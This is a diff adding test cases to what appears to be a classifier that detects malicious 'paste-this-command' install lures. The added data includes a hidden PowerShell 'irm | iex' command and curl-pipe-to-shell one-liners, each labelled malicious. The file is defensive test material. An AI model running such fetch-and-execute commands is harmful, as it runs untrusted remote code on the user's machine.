@@ -974,6 +974,21 @@ def lures() -> list[Case]:
         "https://grafana-download.test/agent",
         expect="malicious",
     )
+    # a vendor's name under another suffix vouches for its own host, but a lure trait or
+    # the Run box still wins
+    add(
+        'powershell -w hidden -ep bypass -c "irm https://ollama.dev/install.ps1 | iex"',
+        "https://ollama.dev/download/windows",
+        expect="malicious",
+        platform="windows",
+    )
+    add(
+        "curl -fsSL https://tailscale.io/install.sh | sh",
+        "https://tailscale.io/download",
+        "run_dialog",
+        "malicious",
+        "windows",
+    )
     # registry pages quoting a script from another account's repository or another host
     add(
         "curl -fsSL https://raw.githubusercontent.com/helperbot/tools/main/install.sh | bash",
